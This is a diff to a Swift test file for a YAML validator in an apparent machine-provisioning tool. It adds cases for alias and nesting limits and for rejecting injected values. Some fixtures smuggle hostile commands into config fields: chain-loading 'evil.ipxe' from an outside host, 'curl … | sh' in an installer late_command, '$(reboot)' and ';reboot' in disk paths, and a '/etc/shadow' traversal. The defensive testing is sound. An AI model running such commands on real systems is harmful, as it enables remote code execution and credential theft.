@@ -101,9 +101,9 @@ struct DiagnosticTests {
         Case(name: "nesting too deep", files: ["deep.yaml": "a: " + String(repeating: "[", count: 200) + String(repeating: "]", count: 200)],
              expected: [("deep.yaml:1:", "nesting is deeper than 64 levels")]),
         Case(name: "alias expansion (billion laughs)", files: ["lol.yaml": Self.billionLaughs],
-             expected: [("lol.yaml:1:1", "holds more than 100000 nodes once its aliases are expanded")]),
+             expected: [("lol.yaml:5:45", "holds more than 100000 nodes once its aliases are expanded")]),
         Case(name: "block nesting too deep", files: ["block.yaml": (0..<200).map { String(repeating: " ", count: $0) + "k\($0):\n" }.joined()],
-             expected: [("block.yaml:33:33", "nesting is deeper than 64 levels")]),
+             expected: [("block.yaml:65:65", "nesting is deeper than 64 levels")]),
         Case(name: "compact sequences nested too deep", files: ["dashes.yaml": String(repeating: "- ", count: 5000) + "x\n"],
              expected: [("dashes.yaml:1:1", "nesting is deeper than 64 levels")]),
         Case(name: "alias used as a key", files: ["k.yaml": "a: &a [1, 2]\n*a : 3\n"],
@@ -113,6 +113,45 @@ struct DiagnosticTests {
         Case(name: "nesting hidden behind a tag or an anchor",
              files: ["t.yaml": "a: !t " + String(repeating: "[", count: 100) + "\nb: &x " + String(repeating: "{", count: 100) + "\n"],
              expected: [("t.yaml:1:", "nesting is deeper than 64 levels")]),
+        // An alias anywhere inside a key: Yams hashes keys in full, so a key naming an
+        // exponentially aliased value would hash for ever.
+        Case(name: "alias inside a flow sequence used as a key", files: ["k.yaml": "a: &a [1, 2]\n[*a]: 3\n"],
+             expected: [("k.yaml:2:2", "an alias cannot be used as a mapping key")]),
+        Case(name: "alias inside a flow mapping used as a key", files: ["k.yaml": "a: &a [1, 2]\n{*a: 1}: 3\n"],
+             expected: [("k.yaml:2:2", "an alias cannot be used as a mapping key")]),
+        Case(name: "alias inside a complex key", files: ["k.yaml": "a: &a [1, 2]\n? - *a\n: 3\n"],
+             expected: [("k.yaml:2:5", "an alias cannot be used as a mapping key")]),
+        Case(name: "alias key after a comment that a lone CR ends", files: ["k.yaml": "a: &a [1, 2]\n# note\r*a : 3\n"],
+             expected: [("k.yaml:3:1", "an alias cannot be used as a mapping key")]),
+        Case(name: "too many aliases", files: ["k.yaml": "a: &a x\nb: [" + String(repeating: "*a, ", count: 1001) + "]\n"],
+             expected: [("k.yaml:2:", "document uses more than 1000 aliases")]),
+    ] + ["\r", "\u{85}", "\u{2028}", "\u{2029}"].map { lineBreak in
+        // libyaml ends a line (and so a comment) at each of these, in YAML 1.1 as Yams reads it.
+        Case(name: "nesting after a comment that U+\(String(lineBreak.unicodeScalars.first!.value, radix: 16, uppercase: true)) ends",
+             files: ["t.yaml": "# note" + lineBreak + "a: " + String(repeating: "[", count: 100) + String(repeating: "]", count: 100)],
+             expected: [("t.yaml:2:67", "nesting is deeper than 64 levels")])
+    } + [
+        // Strings that reach a boot script, a kernel command line or an installer answer
+        // are one line: a line break would add a command of the author's choosing.
+        Case(name: "a line break in kernelArgs",
+             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01",
+                                              extra: "  kernelArgs: \"quiet\\nchain http://198.18.0.66/evil.ipxe\"\n")],
+             expected: [("m.yaml:8:15", #"'spec.kernelArgs' must be one line without control characters, found "quiet\nchain http://198.18.0.66/evil.ipxe""#)]),
+        Case(name: "a line separator in a profile's boot args",
+             files: ["p.yaml": Sample.profile + "\n    args: \"auto=true\\Lchain http://198.18.0.66/evil.ipxe\"\n"],
+             expected: [("p.yaml:8:11", #"'spec.boot.args' must be one line without control characters, found "auto=true\u{2028}chain"#)]),
+        Case(name: "a line break in disk",
+             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01",
+                                              extra: "  disk: \"/dev/sda\\nd-i preseed/late_command string curl http://198.18.0.66/x | sh\"\n")],
+             expected: [("m.yaml:8:9", #"'spec.disk' must be a device path such as /dev/sda or /dev/disk/by-id/NAME, found "/dev/sda\nd-i"#)]),
+        Case(name: "a disk that is not a device path",
+             files: ["m.yaml": Sample.machine("web-01", mac: "94:18:82:00:00:01", extra: "  disk: /dev/sda;reboot\n"),
+                     "g.yaml": "apiVersion: dploy.org/v1\nkind: Group\nmetadata: {name: web}\nspec: {selector: {role: web}, defaults: {disk: /dev/../etc/shadow}}\n"],
+             expected: [("m.yaml:8:9", #"'spec.disk' must be a device path such as /dev/sda or /dev/disk/by-id/NAME, found "/dev/sda;reboot""#),
+                        ("g.yaml:4:48", #"'spec.defaults.disk' must be a device path"#)]),
+        Case(name: "an imaging task's disk with a shell metacharacter",
+             files: ["t.yaml": "apiVersion: dploy.org/v1\nkind: Task\nmetadata: {name: restore}\nspec:\n  targets: {machines: [web-01]}\n  imageRestore: {url: \"http://198.18.0.1/golden.raw\", disk: \"/dev/sda$(reboot)\"}\n"],
+             expected: [("t.yaml:6:61", #"'spec.imageRestore.disk' must be a device path such as /dev/sda"#)]),
         Case(name: "a timeout that overflows", files: ["t.yaml": """
                 apiVersion: dploy.org/v1
                 kind: Task
